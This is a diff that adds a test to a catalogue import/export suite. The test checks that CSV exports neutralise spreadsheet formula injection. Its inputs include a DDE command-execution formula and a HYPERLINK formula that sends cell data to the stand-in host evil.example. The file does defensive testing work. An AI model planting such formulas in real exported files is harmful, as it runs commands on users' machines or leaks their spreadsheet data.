@@ -77,6 +77,40 @@ describeOnEachStore('files of the catalogue', (app) => {
     });
   });
 
+  it.each([
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    '+1+cmd',
+    '@SUM(1+1)*cmd',
+    '-2+3+cmd',
+    '\t=cmd',
+  ])(
+    'keep a formula as text that no spreadsheet runs, and that comes back as it was: %j',
+    async (formula) => {
+      const slug = unique('formula');
+      const title = `${formula} ${slug}`.trim();
+      const record = {
+        slug,
+        title: `${formula} ${slug}`,
+        description: `${formula} is a long enough text`,
+        duration: '60 min',
+        imageUrl: '/uploads/demo/trivia-card-772.webp',
+        inclusions: 'A host',
+      };
+      const file = { kind: 'experiences', format: 'json', text: JSON.stringify([record]) };
+      const { version } = (await preview(file)).body;
+      expect((await bring({ ...file, version })).status).toBe(200);
+      expect((await listed()).find((each) => each.slug === slug)?.title).toBe(title);
+      const { text } = await exported('experiences', 'csv');
+      const [line = ''] = text.split('\n').filter((each) => each.includes(slug));
+      // What stands before a formula in its cell is the apostrophe that makes text of it.
+      expect(line).toMatch(/[,;]"?'[\t]?[=+@-]/);
+      expect(line).not.toMatch(/(?:^|[,;])"?\s*[=+@-]/);
+      const again = await preview({ kind: 'experiences', text });
+      expect(again.body).toMatchObject({ created: 0, updated: 0, errors: [] });
+    },
+  );
+
   it('change nothing when one line is wrong, and say which', async () => {
     const before = await listed();
     const slug = before[0]?.slug;
